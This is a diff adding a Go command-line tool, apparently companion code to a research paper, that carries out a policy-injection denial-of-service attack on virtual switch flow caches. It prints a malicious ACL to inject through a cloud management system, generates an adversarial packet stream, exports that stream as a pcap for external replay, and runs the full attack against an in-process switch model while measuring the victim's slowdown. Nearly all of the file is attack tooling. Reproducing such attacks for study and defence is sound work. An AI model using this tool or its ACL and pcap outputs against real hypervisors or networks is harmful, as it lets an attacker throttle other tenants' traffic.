@@ -1,0 +1,236 @@
+// Command ovsdos is the policy-injection attack tool (the Go counterpart
+// of the paper's companion repository): it builds the malicious ACL,
+// generates the adversarial covert stream, and can run the whole attack
+// against the in-process dataplane model.
+//
+//	ovsdos predict -fields ip_src,tp_dst            mask count & stream plan
+//	ovsdos acl     -fields ip_src,tp_dst,tp_src     print the ACL to inject
+//	ovsdos stream  -fields ip_src -n 5              show covert packets
+//	ovsdos pcap    -fields ip_src,tp_dst -o s.pcap  write the covert stream as pcap
+//	ovsdos run     -fields ip_src,tp_dst            execute against a model switch
+//
+// Field targets: ip_src, ip_dst, tp_src, tp_dst (comma separated). The
+// whitelisted values default to the paper's (10.0.0.1, port 80, port 5201)
+// and can be overridden with -allow-ip / -allow-dport / -allow-sport.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"net/netip"
+	"os"
+	"strings"
+	"time"
+
+	"policyinject/internal/attack"
+	"policyinject/internal/cache"
+	"policyinject/internal/dataplane"
+	"policyinject/internal/flow"
+	"policyinject/internal/flowtable"
+	"policyinject/internal/pkt"
+	"policyinject/internal/sim"
+	"policyinject/internal/traffic"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		usage()
+		os.Exit(2)
+	}
+	cmd, args := os.Args[1], os.Args[2:]
+
+	fs := flag.NewFlagSet(cmd, flag.ExitOnError)
+	fields := fs.String("fields", "ip_src,tp_dst", "target fields (comma separated)")
+	allowIP := fs.String("allow-ip", "10.0.0.1", "whitelisted source address")
+	allowWidth := fs.Int("width", 0, "prefix length of the IP whitelist rule (0 = /32)")
+	allowDPort := fs.Uint("allow-dport", 80, "whitelisted destination port")
+	allowSPort := fs.Uint("allow-sport", 5201, "whitelisted source port")
+	idle := fs.Float64("idle", 10, "revalidator idle timeout assumed, seconds")
+	n := fs.Int("n", 10, "stream: packets to display")
+	out := fs.String("o", "covert.pcap", "pcap: output file")
+	fs.Parse(args)
+
+	atk, err := buildAttack(*fields, *allowIP, *allowWidth, uint16(*allowDPort), uint16(*allowSPort))
+	if err != nil {
+		fatal(err)
+	}
+
+	switch cmd {
+	case "predict":
+		predict(atk, *idle)
+	case "acl":
+		printACL(atk)
+	case "stream":
+		stream(atk, *n)
+	case "pcap":
+		if err := writePcap(atk, *out, *idle); err != nil {
+			fatal(err)
+		}
+	case "run":
+		if err := run(atk); err != nil {
+			fatal(err)
+		}
+	default:
+		usage()
+		os.Exit(2)
+	}
+}
+
+func usage() {
+	fmt.Fprintln(os.Stderr, "usage: ovsdos {predict|acl|stream|pcap|run} [-fields ip_src,tp_dst,tp_src] [flags]")
+}
+
+// writePcap exports the covert stream paced at the plan's refresh rate,
+// ready for external replay tools.
+func writePcap(atk *attack.Attack, path string, idle float64) error {
+	frames, err := atk.Frames()
+	if err != nil {
+		return err
+	}
+	plan := atk.Plan(idle)
+	spacing := uint32(1e6 / plan.PPS)
+	f, err := os.Create(path)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	if err := pkt.WritePcap(f, frames, spacing); err != nil {
+		return err
+	}
+	fmt.Printf("wrote %d covert frames to %s (paced %.0f pps = %s)\n",
+		len(frames), path, plan.PPS, plan)
+	return nil
+}
+
+func fatal(err error) {
+	fmt.Fprintln(os.Stderr, "ovsdos:", err)
+	os.Exit(1)
+}
+
+func buildAttack(fields, allowIP string, width int, dport, sport uint16) (*attack.Attack, error) {
+	ip, err := netip.ParseAddr(allowIP)
+	if err != nil {
+		return nil, fmt.Errorf("bad -allow-ip: %w", err)
+	}
+	atk := &attack.Attack{}
+	for _, f := range strings.Split(fields, ",") {
+		switch strings.TrimSpace(f) {
+		case "ip_src":
+			atk.Fields = append(atk.Fields, attack.TargetField{
+				Field: flow.FieldIPSrc, Allow: flow.V4(ip), Width: width,
+			})
+		case "ip_dst":
+			atk.Fields = append(atk.Fields, attack.TargetField{
+				Field: flow.FieldIPDst, Allow: flow.V4(ip), Width: width,
+			})
+		case "tp_dst":
+			atk.Fields = append(atk.Fields, attack.TargetField{
+				Field: flow.FieldTPDst, Allow: uint64(dport),
+			})
+		case "tp_src":
+			atk.Fields = append(atk.Fields, attack.TargetField{
+				Field: flow.FieldTPSrc, Allow: uint64(sport),
+			})
+		case "ipv6_src":
+			hi, _ := flow.V6(netip.MustParseAddr("2001:db8:0:1::1"))
+			atk.Fields = append(atk.Fields, attack.TargetField{
+				Field: flow.FieldIPv6SrcHi, Allow: hi, Width: width,
+			})
+		default:
+			return nil, fmt.Errorf("unknown field %q (want ip_src, ip_dst, tp_src, tp_dst, ipv6_src)", f)
+		}
+	}
+	return atk, atk.Validate()
+}
+
+func predict(atk *attack.Attack, idle float64) {
+	fmt.Printf("target fields:   %d\n", len(atk.Fields))
+	for _, t := range atk.Fields {
+		fmt.Printf("  %-8s allow=%#x width=%d\n", t.Field.Name(), t.Allow, t.Field.Bits())
+	}
+	fmt.Printf("predicted masks: %d\n", atk.PredictedMasks())
+	fmt.Printf("covert stream:   %s (idle timeout %.0fs)\n", atk.Plan(idle), idle)
+}
+
+func printACL(atk *attack.Attack) {
+	theACL, err := atk.BuildACL()
+	if err != nil {
+		fatal(err)
+	}
+	fmt.Print(theACL.String())
+}
+
+func stream(atk *attack.Attack, n int) {
+	frames, err := atk.Frames()
+	if err != nil {
+		fatal(err)
+	}
+	fmt.Printf("# covert stream: %d packets, showing %d\n", len(frames), min(n, len(frames)))
+	for i, f := range frames {
+		if i >= n {
+			break
+		}
+		fmt.Printf("%5d  %s\n", i, pkt.Summary(f))
+	}
+}
+
+// run executes the attack end to end against an in-process switch,
+// following the paper's timeline — measure healthy, inject, flood,
+// measure degraded — and reports the verification plus the victim cost
+// impact. The switch models the kernel datapath (no EMC), as in the
+// paper's Kubernetes demo.
+func run(atk *attack.Attack) error {
+	sw := dataplane.New(dataplane.Config{
+		Name: "victim-hv",
+		EMC:  cache.EMCConfig{Entries: -1},
+	})
+	// The victim's own service policy (eth_type pinned as the CMS does).
+	var vm flow.Match
+	vm.Key.Set(flow.FieldEthType, flow.EthTypeIPv4)
+	vm.Mask.SetExact(flow.FieldEthType)
+	vm.Key.Set(flow.FieldIPSrc, 0x0a0a0000) // 10.10.0.0/24 clients
+	vm.Mask.SetPrefix(flow.FieldIPSrc, 24)
+	sw.InstallRule(flowtable.Rule{Match: vm, Priority: 100, Action: flowtable.Action{Verdict: flowtable.Allow}, Comment: "victim whitelist"})
+	sw.InstallRule(flowtable.Rule{Priority: 0, Comment: "victim default deny"})
+
+	victim := traffic.NewVictim(traffic.VictimConfig{
+		Src: netip.MustParseAddr("10.10.0.5"),
+		Dst: netip.MustParseAddr("172.16.0.2"),
+	})
+	before := sim.MeasureCost(sw, victim, 1, 256)
+
+	theACL, err := atk.BuildACL()
+	if err != nil {
+		return err
+	}
+	rules, err := theACL.Compile()
+	if err != nil {
+		return err
+	}
+	fmt.Println("== injecting ACL via CMS ==")
+	fmt.Print(theACL.String())
+	for _, r := range rules {
+		sw.InstallRule(r) // flushes the caches, as a policy change does
+	}
+
+	fmt.Println("\n== flooding covert stream ==")
+	start := time.Now()
+	v, err := atk.Execute(sw, 2)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("%v (took %v)\n", v, time.Since(start).Round(time.Millisecond))
+
+	after := sim.MeasureCost(sw, victim, 3, 256)
+	fmt.Println("\n== victim impact ==")
+	fmt.Printf("per-packet cost: %v -> %v (%.1fx slowdown)\n",
+		before, after, float64(after)/float64(before))
+	fmt.Printf("peak forwarding: %.2f Mpps -> %.3f Mpps\n",
+		1e3/float64(before.Nanoseconds()), 1e3/float64(after.Nanoseconds()))
+	fmt.Println()
+	fmt.Print(sw.String())
+	if !v.Achieved() {
+		return fmt.Errorf("attack under-delivered: %s", v)
+	}
+	return nil
+}
